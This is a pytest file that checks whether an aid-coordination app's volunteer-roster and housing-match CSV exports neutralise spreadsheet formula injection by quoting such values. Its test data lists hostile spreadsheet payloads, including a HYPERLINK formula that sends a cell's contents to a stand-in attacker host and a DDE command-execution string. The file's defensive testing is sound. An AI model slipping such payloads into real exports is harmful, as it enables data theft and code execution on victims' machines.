"""Every CSV download writes text a spreadsheet would run as a formula (=, +, -, @) behind a quote: the shift
roster (volunteer names) and the batch suggestions (references from imported files)."""
import csv
import io

import pytest

from aidcoord.extensions import db
from aidcoord.housing import households
from aidcoord.volunteers import services
from tests.factories import HousingOfferFactory, OrganizationFactory, UserFactory
from tests.housing.conftest import FAMILY
from tests.volunteers.test_volunteers import shift_data

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]


@pytest.mark.parametrize("name", HOSTILE)
def test_the_roster_csv_quotes_formulas(api, name):
    organizer = UserFactory()
    organization = OrganizationFactory(members=[organizer])
    shift = services.post_shift(organizer, organization, shift_data())
    person = UserFactory(roles=["volunteer"], name=name)
    services.save_profile(person, {"skills": ["logistics"], "languages": ["hy"], "regions": ["AM-SU"]})
    services.sign_up(person, shift)
    db.session.commit()
    text = api("GET", f"/api/v1/volunteers/shifts/{shift.id}/roster.csv", organizer).get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))[1:]  # under the header, the HXL hashtag row
    assert [row["volunteer"] for row in rows] == ["'" + name]


@pytest.mark.parametrize("reference", HOSTILE)
def test_the_batch_suggestions_csv_quotes_formulas(app, tmp_path, reference):
    coordinator = UserFactory(roles=["coordinator"])
    households.register_household(coordinator, {**FAMILY, "external_ref": reference})
    HousingOfferFactory(beds=8, external_ref=reference)
    output = tmp_path / "proposals.csv"
    result = app.test_cli_runner().invoke(args=["match", "propose", "--kind", "housing", "--as", coordinator.email,
                                                "--output", str(output)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(output.read_text())))
    assert rows and all(row["offer_ref"] == row["request_ref"] == "'" + reference for row in rows)
